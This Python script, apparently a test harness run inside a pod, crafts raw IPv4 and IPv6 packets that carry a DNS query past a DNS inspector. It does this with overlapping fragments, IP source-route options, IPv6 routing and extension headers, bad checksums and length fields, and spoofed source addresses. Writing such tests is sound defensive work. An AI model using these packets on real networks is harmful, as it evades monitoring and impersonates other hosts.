"""Datagrams to port 53 as no client sends them, each with a question that is to get by whoever reads along.

Run in a pod: its addresses of both families, its link-local one, the server's likewise (or ""), and a DNS message, in hexadecimal.
"""

from __future__ import annotations

import socket
import struct
import sys
from collections.abc import Iterator

UDP, FRAGMENT, HOP_BY_HOP, DESTINATION, ROUTING = 17, 44, 0, 60, 43
PORT = 4000
_PADDING = bytes([UDP, 0, 1, 4, 0, 0, 0, 0])


def checksum(data: bytes) -> int:
    padded = data + bytes(len(data) % 2)
    total = sum(struct.unpack(f">{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packed(address: str) -> bytes:
    return socket.inet_pton(socket.AF_INET6 if ":" in address else socket.AF_INET, address)


def datagram(source: str, target: str, data: bytes, wrong: int = 0) -> bytes:
    head = struct.pack(">HHH", PORT, 53, 8 + len(data))
    pseudo = packed(source) + packed(target) + struct.pack(">II", 8 + len(data), UDP)
    return head + (checksum(pseudo + head + b"\0\0" + data) ^ wrong).to_bytes(2, "big") + data


def four(source: str, target: str, body: bytes, options: bytes = b"", at: int = 0, number: int = 7) -> bytes:
    """A packet of IPv4; `at` is where it is in a datagram, with 0x2000 where there is more."""
    length = 20 + len(options)
    head = struct.pack(">BBHHHBBH", 0x40 | length // 4, 0, length + len(body), number, at, 64, UDP, 0)
    head += packed(source) + packed(target) + options
    return head[:10] + checksum(head).to_bytes(2, "big") + head[12:] + body


def six(source: str, target: str, body: bytes, kind: int = UDP) -> bytes:
    return struct.pack(">IHBB", 6 << 28, len(body), kind, 64) + packed(source) + packed(target) + body


def fragment(body: bytes, kind: int, at: int, number: int) -> bytes:
    return struct.pack(">BBHI", kind, 0, at, number) + body


def of_four(own: str, server: str, message: bytes) -> Iterator[bytes]:
    whole = datagram(own, server, message)
    yield four(own, server, whole)
    yield four(own, server, whole, b"\1\1\1\1")
    yield four(own, server, whole, b"\x83\7\4" + packed(server) + b"\0")
    for number, (first, second) in enumerate(((8, 8), (16, 16), (24, 16)), 10):
        yield four(own, server, whole[:first], at=0x2000, number=number)
        yield four(own, server, whole[second:], at=second // 8, number=number)
    yield four(own, server, datagram(own, server, message, wrong=0xFF))
    other = own.rpartition(".")[0] + ".77"
    yield four(other, server, datagram(other, server, message))
    yield four(own, server, whole + b"more")
    yield four(own, server, whole[:4] + (9).to_bytes(2, "big") + whole[6:])


def of_six(own: str, server: str, message: bytes) -> Iterator[bytes]:
    whole = datagram(own, server, message)
    yield six(own, server, whole)
    for kind in (HOP_BY_HOP, DESTINATION):
        yield six(own, server, _PADDING + whole, kind)
    yield six(own, server, bytes([UDP, 2, 0, 0, 0, 0, 0, 0]) + packed(server) + whole, ROUTING)
    yield six(own, server, fragment(whole, UDP, 0, 20), FRAGMENT)
    for number, body, kind in ((21, whole, UDP), (22, _PADDING + whole, DESTINATION)):
        yield six(own, server, fragment(body[:16], kind, 1, number), FRAGMENT)
        yield six(own, server, fragment(body[16:], kind, 16, number), FRAGMENT)


def smuggle(link: str, own: list[str], server: list[str], message: bytes) -> None:
    scope = socket.if_nametoindex(link)
    by_four = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    by_six = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for packet in of_four(own[0], server[0], message):
        by_four.sendto(packet, (server[0], 0))
    for packet in of_six(own[1], server[1], message):
        by_six.sendto(packet, (server[1], 0, 0, 0))
    for source, target in ((own[2], server[2]), ("fe80::77", server[2]), ("fe80::77", server[1])):
        by_six.sendto(six(source, target, datagram(source, target, message)), (target, 0, 0, scope))


if __name__ == "__main__":
    smuggle(sys.argv[1], sys.argv[2:5], sys.argv[5:8], bytes.fromhex(sys.argv[8]))
